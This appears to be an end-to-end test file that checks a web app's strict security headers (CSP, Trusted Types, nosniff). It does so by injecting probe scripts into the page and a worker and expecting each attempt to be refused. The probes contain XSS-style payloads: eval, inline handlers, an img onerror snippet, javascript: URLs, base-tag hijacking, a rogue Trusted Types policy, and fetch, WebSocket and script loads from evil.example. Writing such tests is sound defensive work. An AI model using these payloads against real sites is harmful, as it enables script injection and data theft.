/**
 * The strict headers, attacked by scripts of the page and of a worker: a probe is placed among the product's own
 * files and served with their headers. (Code that a test runs through the debugger would not be blocked.) Tested with
 * the stand-in and each real web server on the system.
 */
import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findWebServer, WebServer } from '../../kit/web-server';
import { type App, until } from '../kit/app';
import { JourneyStand } from '../kit/stand';

const DIST = join(import.meta.dirname, '../../../dist');
const PAGE_PROBE = 'probe-of-headers.js';
const WORKER_PROBE = 'probe-of-headers-worker.js';
/** A file among the product's own: only Trusted Types reject it, if its name is not trusted. */
const IMPORTED_PROBE = 'probe-of-headers-imported.js';

const servers = (['nginx', 'caddy'] as const).filter((name) => findWebServer(name) !== null);

describe.each(['the stand-in', ...servers] as const)('The strict headers of %s', (name) => {
  const stand = new JourneyStand({ platform: { seed: 1 }, isOneStory: true });
  let app: App;
  let origin: string;

  beforeAll(async () => {
    writeFileSync(join(DIST, PAGE_PROBE), PAGE);
    writeFileSync(join(DIST, WORKER_PROBE), WORKER);
    writeFileSync(join(DIST, IMPORTED_PROBE), 'globalThis.importedRan = true;');
    const server =
      name === 'the stand-in'
        ? null
        : stand.closeLater(await WebServer.start(name, new URL(stand.platform.url).host));
    origin = server?.url ?? stand.platform.url;
    app = await stand.open({ origin });
    await app.beginSession();
  });
  afterAll(() => {
    for (const name of [PAGE_PROBE, WORKER_PROBE, IMPORTED_PROBE]) rmSync(join(DIST, name), { force: true });
  });

  const openLive = async (): Promise<void> => {
    await app.visit('/home/work/project/waterworks/page/w-pumps');
    await app.until(
      'live values',
      (painted) => painted.filter(({ freshness }) => freshness === 'fresh').length > 10,
    );
  };

  it('let the product work: a live page with its worker, and an empty console', async () => {
    await openLive();
    expect(app.problems).toEqual([]);
  });

  it("are on the page and on the worker's own file", async () => {
    await openLive();
    const scripts = await app.page.evaluate(() =>
      performance.getEntriesByType('resource').flatMap(({ name }) => (name.endsWith('.js') ? [name] : [])),
    );
    for (const address of [`${origin}/wx/login`, ...scripts]) {
      const { headers } = await fetch(address, { headers: { accept: 'text/html' } });
      const policy = headers.get('content-security-policy') ?? '';
      for (const part of [
        "default-src 'none'",
        "script-src 'self'",
        "object-src 'none'",
        "base-uri 'none'",
        "worker-src 'self'",
        "frame-ancestors 'none'",
        "require-trusted-types-for 'script'",
        'trusted-types default',
      ])
        expect(policy, address).toContain(part);
      expect(policy, address).not.toMatch(/unsafe|\*|data:/);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('referrer-policy')).toBe('no-referrer');
      expect(headers.get('cross-origin-opener-policy')).toBe('same-origin');
    }
  });

  it('block code created from text, in the page and in a worker', async () => {
    await app.visit('/login');
    await app.page.evaluate((name) => {
      const script = document.createElement('script');
      script.src = `/wx/${name}`;
      document.body.append(script);
    }, PAGE_PROBE);
    const probed = (): Promise<ProbeOutcomes | null> =>
      app.page.evaluate(() => (globalThis as unknown as { probed?: ProbeOutcomes }).probed ?? null);
    await until('the probe to end', async () => (await probed()) !== null, 30_000);
    const { page, worker } = (await probed()) ?? { page: {}, worker: {} };
    expect(Object.keys(page).length).toBeGreaterThanOrEqual(16);
    expect(Object.keys(worker).length).toBeGreaterThanOrEqual(12);
    for (const [realm, outcomes] of Object.entries({ page, worker }))
      for (const [name, outcome] of Object.entries(outcomes))
        expect(outcome, `${name} in the ${realm}`).not.toBe('done');
    app.clearProblems();
  });
});

/** Attempts in both realms. Each is `done` only if its code ran. */
const SHARED = `
const outcomes = {};
const attempt = async (name, act) => {
  try {
    outcomes[name] = (await act()) === true ? 'done' : 'without effect';
  } catch (error) {
    outcomes[name] = 'refused';
  }
};
const rest = () => new Promise((resolve) => setTimeout(resolve, 150));
const blob = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
const answers = (worker) => new Promise((resolve) => {
  worker.onmessage = () => resolve(true);
  worker.onerror = () => resolve(false);
  setTimeout(() => resolve(false), 400);
});
const tried = async () => {
  await attempt('eval', () => (0, eval)('true'));
  await attempt('new Function', () => new Function('return true')());
  await attempt('timer of text', async () => {
    setTimeout('globalThis.timerRan = true');
    await rest();
    return globalThis.timerRan;
  });
  await attempt('blob worker', () => answers(new Worker(blob('postMessage(1)'))));
  await attempt('worker of data', () => answers(new Worker('data:text/javascript,postMessage(1)')));
  await attempt('import of data', async () => (await import('data:text/javascript,export default true')).default);
  await attempt('import of a blob', async () => (await import(blob('export default true'))).default);
  await attempt('foreign call', async () => (await fetch('https://evil.example/')).ok || true);
  await attempt('foreign socket', () => new Promise((resolve) => {
    const socket = new WebSocket('wss://evil.example/');
    socket.onopen = () => resolve(true);
    socket.onerror = () => resolve(false);
  }));
};
`;

const PAGE = `${SHARED}
const added = (name, change) => {
  const element = document.createElement(name);
  change(element);
  document.body.append(element);
  return element;
};
(async () => {
  await tried();
  await attempt('inline script', () => {
    added('script', (script) => { script.textContent = 'globalThis.inlineRan = true'; });
    return globalThis.inlineRan;
  });
  await attempt('inline handler', async () => {
    const button = added('button', (one) => one.setAttribute('onclick', 'globalThis.handlerRan = true'));
    button.click();
    await rest();
    return globalThis.handlerRan;
  });
  await attempt('markup with a handler', async () => {
    added('div', (one) => { one.innerHTML = '<img src="/wx/nothing" onerror="globalThis.markupRan = true">'; });
    await rest();
    return globalThis.markupRan;
  });
  await attempt('javascript: link', async () => {
    added('a', (one) => { one.href = 'javascript:void(globalThis.linkRan = true)'; }).click();
    await rest();
    return globalThis.linkRan;
  });
  await attempt('javascript: frame', async () => {
    added('iframe', (one) => { one.src = 'javascript:void(parent.frameRan = true)'; });
    await rest();
    return globalThis.frameRan;
  });
  await attempt('foreign script', () => new Promise((resolve) => {
    added('script', (one) => {
      one.onload = () => resolve(true);
      one.onerror = () => resolve(false);
      one.src = 'https://evil.example/x.js';
    });
  }));
  await attempt('another policy', () => {
    globalThis.trustedTypes.createPolicy('evil', { createHTML: (text) => text });
    return true;
  });
  await attempt('another base', async () => {
    added('base', (one) => { one.href = 'https://evil.example/'; });
    return new URL('x', document.baseURI).host === 'evil.example';
  });
  const worker = new Worker('/wx/${WORKER_PROBE}');
  const inWorker = await new Promise((resolve) => {
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => resolve({});
    worker.postMessage('try');
  });
  globalThis.probed = { page: outcomes, worker: inWorker };
})();
`;

const WORKER = `${SHARED}
onmessage = async () => {
  await tried();
  await attempt('imported script', () => {
    importScripts(blob('globalThis.importRan = true'));
    return globalThis.importRan;
  });
  await attempt('own script by a text', () => {
    importScripts('/wx/${IMPORTED_PROBE}');
    return globalThis.importedRan;
  });
  await attempt('another policy', () => {
    trustedTypes.createPolicy('evil', { createScriptURL: (text) => text });
    return true;
  });
  postMessage(outcomes);
};
`;

interface ProbeOutcomes {
  readonly page: Readonly<Record<string, string>>;
  readonly worker: Readonly<Record<string, string>>;
}
